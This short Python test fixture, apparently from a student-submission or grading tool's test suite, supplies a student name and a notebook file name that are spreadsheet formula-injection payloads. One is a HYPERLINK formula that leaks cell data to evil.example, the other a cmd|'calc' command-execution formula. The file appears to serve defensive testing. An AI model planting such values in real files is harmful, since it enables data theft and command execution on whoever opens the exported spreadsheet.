# mark: 11
# why: attack: a student and a file whose names are formulas of a spreadsheet
# canary: page

from garden import SOLUTION, notebook

NAME = '=HYPERLINK("evil.example?"&A1;"Ada")'


def hand_in(home, around):
    (home / "@SUM(1+1)*cmd|'calc'!A0.ipynb").write_bytes(notebook(SOLUTION, why="Because."))


def carelessly(home, around):
    print(home.name)
